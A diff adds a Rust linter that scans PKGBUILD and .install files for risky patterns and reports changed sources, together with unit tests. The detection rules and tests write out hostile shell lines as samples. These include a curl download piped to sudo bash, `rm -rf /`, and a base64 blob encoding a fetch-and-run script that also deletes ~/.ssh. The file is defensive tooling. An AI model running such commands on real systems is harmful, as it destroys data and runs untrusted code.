@@ -0,0 +1,347 @@
+use std::{collections::HashSet, fmt::Display, fs, path::Path};
+
+use lazy_regex::{regex, Regex};
+use serde::{Deserialize, Serialize};
+
+use super::{error::AppResult, srcinfo::SrcInfo};
+
+/// How dangerous a lint finding is
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Deserialize, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+impl Display for Severity {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Low => write!(f, "low"),
+            Self::Medium => write!(f, "medium"),
+            Self::High => write!(f, "high"),
+            Self::Critical => write!(f, "critical"),
+        }
+    }
+}
+
+/// A risky pattern found in a file of a package
+#[derive(Clone, Debug)]
+pub struct Finding {
+    pub file: String,
+    pub line: usize,
+    pub severity: Severity,
+    pub message: String,
+}
+
+/// Returns the line based rules as `(pattern, severity, message)`
+fn rules() -> [(&'static Regex, Severity, &'static str); 6] {
+    [
+        (
+            regex!(r"\b(curl|wget)\b.*\|\s*(sudo\s+)?(ba|z|da)?sh\b"),
+            Severity::Critical,
+            "Downloads and executes a script",
+        ),
+        (
+            regex!(r"\brm\s+(-\w+\s+)*/(\*|\s|$)"),
+            Severity::Critical,
+            "Removes the root directory",
+        ),
+        (
+            regex!(r"(^|[;&|(`]|\$\()\s*sudo\b"),
+            Severity::High,
+            "Uses sudo",
+        ),
+        (
+            regex!(r"\bbase64\s+(-\w*d\w*|--decode)\b"),
+            Severity::High,
+            "Decodes base64 encoded content",
+        ),
+        (
+            regex!(r"\bhttp://"),
+            Severity::Medium,
+            "Downloads over unencrypted http",
+        ),
+        (
+            regex!(r#"(^|[\s(=])(SKIP|'SKIP'|"SKIP")(\s|\)|$)"#),
+            Severity::Low,
+            "Source without checksum",
+        ),
+    ]
+}
+
+/// Scans the PKGBUILD and all `.install` files of a package for risky patterns.
+/// If the `.SRCINFO` of the last reviewed revision is given, changed source URLs are reported as well.
+#[tracing::instrument(level = "trace")]
+pub fn lint_package(pkg_dir: &Path, previous_srcinfo: Option<&str>) -> AppResult<Vec<Finding>> {
+    let mut findings = Vec::new();
+
+    for entry in fs::read_dir(pkg_dir)? {
+        let path = entry?.path();
+        let file_name = path
+            .file_name()
+            .map(|f| f.to_string_lossy().to_string())
+            .unwrap_or_default();
+
+        if path.is_file() && (file_name == "PKGBUILD" || file_name.ends_with(".install")) {
+            let content = fs::read_to_string(&path)?;
+            findings.append(&mut lint_file(&file_name, &content));
+        }
+    }
+
+    if let Some(previous) = previous_srcinfo {
+        match fs::read_to_string(pkg_dir.join(".SRCINFO")) {
+            Ok(srcinfo) => findings.append(&mut changed_sources(previous, &srcinfo)),
+            Err(e) => tracing::warn!(
+                "Skipping the check for changed sources in {}: {e}",
+                pkg_dir.display()
+            ),
+        }
+    }
+    findings.sort_by_key(|f| std::cmp::Reverse(f.severity));
+
+    Ok(findings)
+}
+
+fn lint_file(file_name: &str, content: &str) -> Vec<Finding> {
+    let rules = rules();
+    // checksums are hex encoded and would match as well
+    let base64 = regex!(r"[A-Za-z0-9+/]{100,}={0,2}");
+    let mut findings = Vec::new();
+
+    for (index, line) in content.lines().enumerate() {
+        let line = line.trim();
+
+        if line.starts_with('#') {
+            continue;
+        }
+        let mut add = |severity, message: &str| {
+            findings.push(Finding {
+                file: file_name.to_string(),
+                line: index + 1,
+                severity,
+                message: message.to_string(),
+            })
+        };
+
+        for (pattern, severity, message) in &rules {
+            if pattern.is_match(line) {
+                add(*severity, message);
+            }
+        }
+        if base64
+            .find_iter(line)
+            .any(|m| !m.as_str().chars().all(|c| c.is_ascii_hexdigit()))
+        {
+            add(Severity::Medium, "Contains a long base64 encoded string");
+        }
+        // install scripts run on the live system, so only check the PKGBUILD
+        if file_name == "PKGBUILD" && writes_outside_pkgdir(line) {
+            add(Severity::High, "Writes outside of $pkgdir");
+        }
+    }
+
+    findings
+}
+
+/// Returns whether a command of the line writes to an absolute system path.
+/// Only the targets of commands are checked, so copying from `$srcdir` into `$pkgdir` is fine.
+fn writes_outside_pkgdir(line: &str) -> bool {
+    let system_path = regex!(r"^/(usr|etc|opt|var|bin|sbin|lib|lib64|boot|home|root)(/|$)");
+    let redirect = regex!(r">>?\s*(\S+)");
+    let is_system_path = |arg: &str| system_path.is_match(arg.trim_matches(['"', '\'']));
+
+    for segment in regex!(r"&&|\|\||[;|]").split(line) {
+        if redirect
+            .captures_iter(segment)
+            .any(|c| is_system_path(&c[1]))
+        {
+            return true;
+        }
+        let segment = redirect.replace_all(segment, "");
+        let mut words = segment.split_whitespace();
+        let command = match words.find(|w| {
+            matches!(
+                *w,
+                "install" | "cp" | "mv" | "ln" | "mkdir" | "touch" | "tee" | "chmod" | "chown"
+            )
+        }) {
+            Some(command) => command,
+            None => continue,
+        };
+        let words: Vec<&str> = words.collect();
+        let explicit_target = words
+            .windows(2)
+            .find(|w| w[0] == "-t" || w[0] == "--target-directory")
+            .map(|w| w[1]);
+        let args: Vec<&str> = words
+            .iter()
+            .copied()
+            .filter(|w| !w.starts_with('-'))
+            .collect();
+        let targets = match (command, explicit_target) {
+            (_, Some(target)) => vec![target],
+            // the last argument is the destination, all others are read
+            ("install" | "cp" | "mv" | "ln", None) => args.last().copied().into_iter().collect(),
+            _ => args,
+        };
+
+        if targets.into_iter().any(is_system_path) {
+            return true;
+        }
+    }
+
+    false
+}
+
+/// Reports all source URLs that weren't part of the previously reviewed .SRCINFO
+fn changed_sources(previous: &str, current: &str) -> Vec<Finding> {
+    let previous = srcinfo_sources(previous);
+
+    srcinfo_sources(current)
+        .into_iter()
+        .filter(|s| !previous.contains(s))
+        .map(|source| Finding {
+            file: String::from(".SRCINFO"),
+            line: 0,
+            severity: Severity::Medium,
+            message: format!("Source changed since the last review: {source}"),
+        })
+        .collect()
+}
+
+fn srcinfo_sources(srcinfo: &str) -> HashSet<String> {
+    SrcInfo::parse(srcinfo)
+        .map(|s| s.sources().into_iter().map(String::from).collect())
+        .unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn messages(line: &str) -> Vec<String> {
+        lint_file("PKGBUILD", line)
+            .into_iter()
+            .map(|f| f.message)
+            .collect()
+    }
+
+    #[test]
+    fn finds_piped_downloads() {
+        assert_eq!(
+            messages("  curl -fsSL https://example.com/install.sh | sudo bash"),
+            ["Downloads and executes a script", "Uses sudo"]
+        );
+        assert!(messages("  curl -LO https://example.com/file.tar.gz").is_empty());
+    }
+
+    #[test]
+    fn finds_root_removal() {
+        assert_eq!(messages("  rm -rf /"), ["Removes the root directory"]);
+        assert_eq!(messages("  rm -rf /*"), ["Removes the root directory"]);
+        assert!(messages(r#"  rm -rf "$pkgdir/usr/share/doc""#).is_empty());
+    }
+
+    #[test]
+    fn finds_sudo() {
+        assert_eq!(messages("  sudo make install"), ["Uses sudo"]);
+        assert_eq!(messages("  make && sudo make install"), ["Uses sudo"]);
+        assert!(messages("depends=('sudo')").is_empty());
+    }
+
+    #[test]
+    fn finds_base64() {
+        assert_eq!(
+            messages("  echo \"$payload\" | base64 -d > run.sh"),
+            ["Decodes base64 encoded content"]
+        );
+        let blob = "IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLmNvbS9wYXlsb2FkIHwgc2gKcm0gLXJmIH4vLnNzaCAmJiBlY2hvIGRvbmUK";
+        assert_eq!(
+            messages(&format!("  echo {blob} > payload")),
+            ["Contains a long base64 encoded string"]
+        );
+    }
+
+    #[test]
+    fn ignores_checksums() {
+        let sha512 = "sha512sums=('cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e')";
+        let b2 = "            '786a02f742015903c6c6fd852552d272912f4740e15847618a86e217f71f5419d25e1031afee585313896444934eb04b903a685b1448b755d56f701afe9be2ce'";
+        assert!(messages(sha512).is_empty());
+        assert!(messages(b2).is_empty());
+    }
+
+    #[test]
+    fn finds_http_sources() {
+        assert_eq!(
+            messages(r#"source=("http://example.com/$pkgname-$pkgver.tar.gz")"#),
+            ["Downloads over unencrypted http"]
+        );
+        assert!(messages(r#"source=("https://example.com/$pkgname-$pkgver.tar.gz")"#).is_empty());
+    }
+
+    #[test]
+    fn finds_skipped_checksums() {
+        let skipped = ["Source without checksum"];
+        assert_eq!(messages("sha256sums=('SKIP')"), skipped);
+        assert_eq!(messages(r#"sha256sums=("SKIP")"#), skipped);
+        assert_eq!(
+            messages("sha256sums=('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' 'SKIP')"),
+            skipped
+        );
+        assert!(messages("  ./configure --disable-SKIPPED").is_empty());
+    }
+
+    #[test]
+    fn finds_writes_outside_pkgdir() {
+        assert_eq!(
+            messages("  install -Dm755 foo /usr/bin/foo"),
+            ["Writes outside of $pkgdir"]
+        );
+        assert_eq!(
+            messages("  echo foo >> /etc/hosts"),
+            ["Writes outside of $pkgdir"]
+        );
+        assert!(messages(r#"  install -Dm755 foo "$pkgdir/usr/bin/foo""#).is_empty());
+        assert!(
+            messages(r#"  install -Dm644 LICENSE -t "${pkgdir}/usr/share/licenses/$pkgname""#)
+                .is_empty()
+        );
+        assert!(messages(r#"  cp -r "$srcdir/usr" "$pkgdir/""#).is_empty());
+        assert!(messages(r#"  make DESTDIR="$pkgdir" install 2>/dev/null"#).is_empty());
+        assert_eq!(
+            messages(r#"  install -m755 "$srcdir/evil" /usr/bin/"#),
+            ["Writes outside of $pkgdir"]
+        );
+        assert_eq!(
+            messages(r#"  cp "$srcdir/x" /etc/"#),
+            ["Writes outside of $pkgdir"]
+        );
+        assert_eq!(
+            messages(r#"  cd "$srcdir" && echo foo | tee -a /etc/profile"#),
+            ["Writes outside of $pkgdir"]
+        );
+        assert!(lint_file("foo.install", "  mkdir -p /var/lib/foo").is_empty());
+    }
+
+    #[test]
+    fn skips_comments() {
+        assert!(messages("# sudo make install").is_empty());
+    }
+
+    #[test]
+    fn finds_changed_sources() {
+        let previous =
+            "pkgbase = foo\n\tsource = https://example.com/foo.tar.gz\n\npkgname = foo\n";
+        let current = "pkgbase = foo\n\tsource = https://example.org/foo.tar.gz\n\npkgname = foo\n";
+        let findings = changed_sources(previous, current);
+
+        assert_eq!(findings.len(), 1);
+        assert_eq!(
+            findings[0].message,
+            "Source changed since the last review: https://example.org/foo.tar.gz"
+        );
+        assert!(changed_sources(current, current).is_empty());
+    }
+}